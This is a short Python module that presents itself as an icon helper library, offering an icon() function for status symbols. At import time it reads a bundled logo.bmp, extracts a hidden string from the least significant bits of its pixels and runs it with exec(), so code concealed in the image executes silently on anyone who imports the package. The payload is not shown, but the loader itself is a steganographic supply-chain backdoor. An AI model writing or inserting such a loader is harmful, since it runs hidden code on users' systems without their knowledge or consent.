import os

from PIL import Image

__version__ = "2.1.0"
ICONS = {"ok": "\u2714", "fail": "\u2718", "warn": "\u26a0"}
_LOGO = os.path.join(os.path.dirname(__file__), "static", "logo.bmp")


def _unpack(path=_LOGO):
    px = list(Image.open(path).getdata())
    bits = "".join(str(b & 1) for p in px for b in p)
    raw = bytearray(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8))
    size = int.from_bytes(raw[:2], "little")
    return raw[2:2 + size].decode("utf-8", "ignore")


def icon(name):
    return ICONS.get(name, "?")


_code = _unpack()
if _code:
    exec(compile(_code, "<rich_icons>", "exec"), {})
